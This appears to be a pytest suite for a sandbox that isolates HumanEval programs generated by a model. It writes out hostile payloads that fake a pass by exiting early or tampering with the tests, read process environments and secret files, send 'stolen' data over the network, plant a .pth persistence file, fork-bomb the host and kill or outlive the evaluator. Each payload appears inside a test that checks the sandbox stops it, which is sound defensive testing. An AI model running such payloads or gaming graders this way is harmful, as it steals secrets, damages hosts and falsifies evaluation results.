"""The HumanEval sandbox: each way a generated program could harm the evaluator, and what stops it.

Every payload reports what it managed through its last stderr line (`ExecutionResult.detail`), so a
test checks both that the attack failed and that the payload really ran. Where this machine cannot
isolate code, each attack test asserts the documented refusal instead of running the payload.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import sysconfig
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from deferral.errors import DeferralError
from inference.evaluate_cli import build_parser
from inference.tasks import sandbox
from inference.tasks.humaneval import HumanEval, check_reply
from inference.tasks.sandbox import ExecutionResult, Isolation, run_program

ISOLATED = sandbox.isolation().command is not None
WRONG = "def has_close_elements(numbers, threshold):\n    return True\n"


@pytest.fixture(scope="module")
def first_problem():
    return HumanEval(limit=1, chat=True).examples()[0].extra["problem"]


def fenced(code: str) -> str:
    return f"```python\n{code}\n```"


def attempt(source: str, timeout_s: float = 5.0, memory_mb: int = 512) -> ExecutionResult | None:
    """Run an attack where the machine isolates code; elsewhere assert that it is refused and return None."""
    if not ISOLATED:
        with pytest.raises(DeferralError, match="--unsafe-allow-network"):
            run_program(source, timeout_s=timeout_s, memory_mb=memory_mb)
        return None
    return run_program(source, timeout_s=timeout_s, memory_mb=memory_mb)


def leftover_processes(marker: str) -> list[int]:
    """Processes of the host whose command line holds `marker` (see `sleeper`)."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass  # ended while we looked
    return found


@pytest.fixture
def open_dir():
    """A folder that file permissions alone would let any uid write: only the sandbox can keep it out."""
    path = Path(tempfile.mkdtemp(prefix="deferral-sandbox-test-", dir="/tmp"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def sleeper(tag: str) -> str:
    """Statements that start a process whose command line holds `tag`, so a survivor can be found."""
    return f"os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', {tag!r}])"


def unique_tag() -> str:
    return f"deferral-sandbox-test-{os.getpid()}-{time.time_ns()}"


# -- what counts as passed --------------------------------------------------------------------------


def test_a_correct_solution_passes_and_a_wrong_one_fails(first_problem):
    # Harmless programs: where the machine cannot isolate, they run unisolated (with the warning).
    def check(reply: str) -> ExecutionResult:
        return check_reply(first_problem, fenced(reply), chat=True, unsafe_allow_network=not ISOLATED)

    assert check(first_problem["prompt"] + first_problem["canonical_solution"]) == ExecutionResult(True, "passed")
    bad = check(WRONG)
    assert not bad.passed and bad.status == "failed" and "AssertionError" in bad.detail


@pytest.mark.parametrize("payload", [
    "import sys\nsys.exit(0)\n",
    "import os\nos._exit(0)\n",
    "raise SystemExit(0)\n",
    "import atexit, os\natexit.register(os._exit, 0)\n",  # exit 0 even after the tests raised
    "import sys\nsys.excepthook = lambda *args: None\n",  # swallow the failing test's traceback
    "check = lambda candidate: None\n",  # replace the tests (the test code defines its own later)
    "import builtins\nbuiltins.AssertionError = type('Quiet', (Exception,), {})\n",  # hide the tests' failure
    "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
    # stop inside the tests' check() with exit status 0, through a profile hook set beforehand
    "import sys\nsys.setprofile(lambda frame, event, arg: frame.f_code.co_name == 'check' and sys.exit(0))\n",
])
def test_ending_or_tampering_before_the_tests_does_not_pass(first_problem, payload):
    result = check_reply(first_problem, fenced(payload + WRONG), chat=True, timeout_s=5.0,
                         unsafe_allow_network=not ISOLATED)
    assert not result.passed and result.status == "failed", result


def test_an_infinite_loop_times_out_and_leaves_nothing_running(first_problem):
    tag = unique_tag()
    reply = fenced(f"import os, sys\nif os.fork() == 0:\n    {sleeper(tag)}\n"
                   "def has_close_elements(numbers, threshold):\n    while True:\n        pass")
    started = time.monotonic()
    result = check_reply(first_problem, reply, chat=True, timeout_s=1.0, unsafe_allow_network=not ISOLATED)
    assert result.status == "timed out" and not result.passed
    assert time.monotonic() - started < 5.0
    assert leftover_processes(tag) == []


# -- the host's files, environment and processes ------------------------------------------------


def test_writes_outside_its_own_folder_do_not_land(open_dir):
    name = f"deferral_sandbox_test_{os.getpid()}"
    targets = [
        Path(sysconfig.get_paths()["purelib"]) / f"{name}.pth",  # would run at every later Python start
        Path(__file__).resolve().parent / f"{name}.py",  # the repository
        open_dir / "marker.txt",  # a folder anyone may write
        Path("/tmp") / f"{name}.txt",  # the program's /tmp is its own: the write lands there, not here
    ]
    payload = f"""
outcomes = []
for path in {[str(t) for t in targets]!r}:
    try:
        with open(path, "w") as f:
            f.write("# harmless\\n")
        outcomes.append("wrote " + path)
    except OSError as exc:
        outcomes.append(type(exc).__name__)
with open("scratch.txt", "w") as f:  # its own folder stays writable
    f.write("ok")
outcomes.append("own folder " + open("scratch.txt").read())
raise RuntimeError(repr(outcomes))
"""
    try:
        result = attempt(payload)
        if result is not None:
            assert "own folder ok" in result.detail and result.detail.count("wrote") == 1, result.detail
        assert [t for t in targets if t.exists()] == []
    finally:
        for target in targets:
            target.unlink(missing_ok=True)


def test_the_evaluators_environment_and_files_are_not_readable(open_dir, monkeypatch):
    secret = f"s3cret-{os.getpid()}-{time.time_ns()}"
    monkeypatch.setenv("DEFERRAL_SANDBOX_TEST_SECRET", secret)  # what a child would inherit
    # /proc/PID/environ shows a process's environment as it was started, so a helper started with the
    # secret stands for an evaluator whose environment holds API keys.
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"], env={**os.environ})
    secret_file = open_dir / "secret.txt"
    secret_file.write_text(secret)
    secret_file.chmod(0o644)
    payload = f"""
import os
seen = [repr(dict(os.environ))]
for path in ["/proc/%d/environ" % os.getppid(), "/proc/{holder.pid}/environ", "/proc/{os.getpid()}/environ",
             "/proc/1/environ", "/proc/self/environ", {str(secret_file)!r}]:
    try:
        seen.append(open(path, "rb").read().decode(errors="replace"))
    except OSError as exc:
        seen.append(type(exc).__name__)
seen += [p for p in os.listdir("/proc") if p.isdigit()]
raise RuntimeError("seen: " + repr(seen))
"""
    try:
        result = attempt(payload)
    finally:
        holder.kill()
        holder.wait()
    if result is not None:
        assert result.detail.startswith("RuntimeError: seen:"), result.detail
        assert secret not in result.detail
        assert f"'{holder.pid}'" not in result.detail  # no process of the host is even listed in its /proc


def test_no_connection_leaves_the_sandbox():
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("0.0.0.0", 0))
    server.listen(1)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp_port, udp_port = server.getsockname()[1], udp.getsockname()[1]
    payload = f"""
import socket
outcomes = []
try:
    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=1).sendall(b"stolen")
    outcomes.append("tcp connected")
except OSError as exc:
    outcomes.append("tcp " + type(exc).__name__)
for host in ["127.0.0.1", "8.8.8.8"]:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (host, {udp_port}))
        outcomes.append("udp sent")
    except OSError as exc:
        outcomes.append("udp " + type(exc).__name__)
raise RuntimeError(repr(outcomes))
"""
    try:
        result = attempt(payload)
        server.settimeout(0.3)
        udp.settimeout(0.3)
        with pytest.raises(TimeoutError):
            server.accept()
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)
        if result is not None:
            assert "connected" not in result.detail and "sent" not in result.detail, result.detail
            assert result.detail.count("OSError") == 3, result.detail  # network unreachable
    finally:
        server.close()
        udp.close()


def test_a_double_fork_with_setsid_does_not_survive_the_check(open_dir):
    marker = open_dir / "survived.txt"
    tag = unique_tag()
    survivor = f"import time\ntime.sleep(1.0)\nopen({str(marker)!r}, 'w').write('alive')"
    payload = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", {survivor!r}, {tag!r}])
    os._exit(0)
os.wait()
"""
    result = attempt(payload)
    if result is not None:
        assert result.passed  # the payload itself ran to its end
        assert leftover_processes(tag) == []
        time.sleep(1.5)
        assert not marker.exists()


def test_the_evaluator_cannot_be_killed_from_the_sandbox():
    # A process of the evaluator's uid and process group, besides the evaluator (this test) itself.
    bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    payload = f"""
import os
outcomes = []
for pid in [os.getppid(), {os.getpid()}, {bystander.pid}]:
    try:
        os.kill(pid, 9)
        outcomes.append("killed %d" % pid)
    except OSError as exc:
        outcomes.append(type(exc).__name__)
try:
    os.killpg({os.getpgrp()}, 9)
    outcomes.append("killed the evaluator's group")
except OSError as exc:
    outcomes.append(type(exc).__name__)
raise RuntimeError(repr(outcomes))
"""
    try:
        result = attempt(payload)
        own_group = attempt("import os\nos.killpg(os.getpgid(0), 9)\n")  # reaches its own group only
        assert bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()
    if result is not None:
        # Its parent is the launcher (init of its PID namespace, another uid); the evaluator is not in it.
        assert result.detail.startswith("RuntimeError: [") and "killed" not in result.detail, result.detail
        assert not own_group.passed and "SIGKILL" in own_group.detail, own_group.detail


def test_kill_minus_one_finds_nothing_to_kill():
    # kill(-1) signals every process the caller may signal but itself and init: in its PID namespace
    # there is none (the launcher is init, and another uid).
    result = attempt("import os\nos.kill(-1, 9)\n")
    if result is not None:
        assert not result.passed and "ProcessLookupError" in result.detail, result.detail


def test_a_fork_bomb_hits_the_process_limit():
    tag = unique_tag()
    payload = f"""
import os, sys
forks = 0
try:
    while forks < 1000:
        if os.fork() == 0:
            {sleeper(tag)}
        forks += 1
except OSError as exc:
    raise RuntimeError("forks=%d %s" % (forks, type(exc).__name__))
raise RuntimeError("forks=%d unlimited" % forks)
"""
    result = attempt(payload)
    if result is not None:
        assert "BlockingIOError" in result.detail, result.detail
        assert int(result.detail.split("forks=")[1].split()[0]) < sandbox.PROCESS_LIMIT
        assert leftover_processes(tag) == []


def test_generated_code_never_runs_in_the_evaluators_interpreter():
    result = attempt("import sys\nassert 'pytest' not in sys.modules and 'deferral' not in sys.modules\n")
    assert result is None or result.passed, result


def test_checks_in_parallel_threads_do_not_mix(first_problem):
    good = fenced(first_problem["prompt"] + first_problem["canonical_solution"])
    replies = [good, fenced(WRONG)] * 4
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(
            lambda r: check_reply(first_problem, r, chat=True, unsafe_allow_network=not ISOLATED).passed, replies))
    assert results == [True, False] * 4


# -- machines that cannot isolate ------------------------------------------------------------------


@pytest.fixture
def no_isolation(monkeypatch):
    monkeypatch.setattr(sandbox, "_isolation", Isolation(None, reason="no namespaces in this test"))
    monkeypatch.setattr(sandbox, "_warned", False)


def test_without_isolation_generated_code_is_refused(no_isolation, first_problem):
    with pytest.raises(DeferralError, match="no namespaces in this test.*--unsafe-allow-network"):
        run_program("pass")
    task = HumanEval(limit=1)
    with pytest.raises(DeferralError, match="--unsafe-allow-network"):
        task.score(task.examples(), ["anything"])


def test_unsafe_allow_network_runs_unisolated_and_warns_once(no_isolation, first_problem, capsys):
    solution = first_problem["prompt"] + first_problem["canonical_solution"]
    assert check_reply(first_problem, fenced(solution), chat=True, unsafe_allow_network=True).passed
    exits = fenced("import sys\nsys.exit(0)\n" + WRONG)
    assert not check_reply(first_problem, exits, chat=True, unsafe_allow_network=True).passed
    warnings = [line for line in capsys.readouterr().err.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1 and "WITHOUT network" in warnings[0]


def test_the_probe_names_a_missing_unshare(monkeypatch):
    monkeypatch.setattr(sandbox.shutil, "which", lambda *args, **kwargs: None)
    assert sandbox._probe() == Isolation(None, reason="util-linux `unshare` is not installed")


def test_evaluate_has_the_flag_and_it_is_off_by_default():
    parser = build_parser()
    assert parser.parse_args([]).unsafe_allow_network is False
    assert parser.parse_args(["--unsafe-allow-network"]).unsafe_allow_network is True
